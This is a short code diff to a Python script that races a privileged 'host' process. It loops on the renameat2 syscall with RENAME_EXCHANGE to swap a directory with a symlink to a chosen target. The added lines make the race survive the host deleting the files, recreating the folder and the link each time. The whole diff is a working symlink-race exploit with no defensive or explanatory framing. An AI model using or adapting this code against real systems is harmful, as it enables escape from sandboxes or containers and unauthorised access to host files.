@@ -11,6 +11,16 @@ os.rename("real", "d")
 RENAME_EXCHANGE = 2
 AT_FDCWD = -100
 print("done", flush=True)
+spare = 0
 while True:
     syscall(316, AT_FDCWD, ctypes.c_char_p(b"d"), AT_FDCWD, ctypes.c_char_p(b"link"), RENAME_EXCHANGE)
-    os.makedirs("d/e", exist_ok=True) if not os.path.islink("d") else None
+    try:  # the host removes either while we look; there must be a folder and a link again
+        if not os.path.lexists("d"):
+            os.makedirs("d/e")
+        if not os.path.islink("d") and not os.path.islink("link"):
+            if os.path.lexists("link"):
+                spare += 1
+                os.rename("link", "spare%d" % spare)
+            os.symlink(target, "link")
+    except OSError:
+        pass
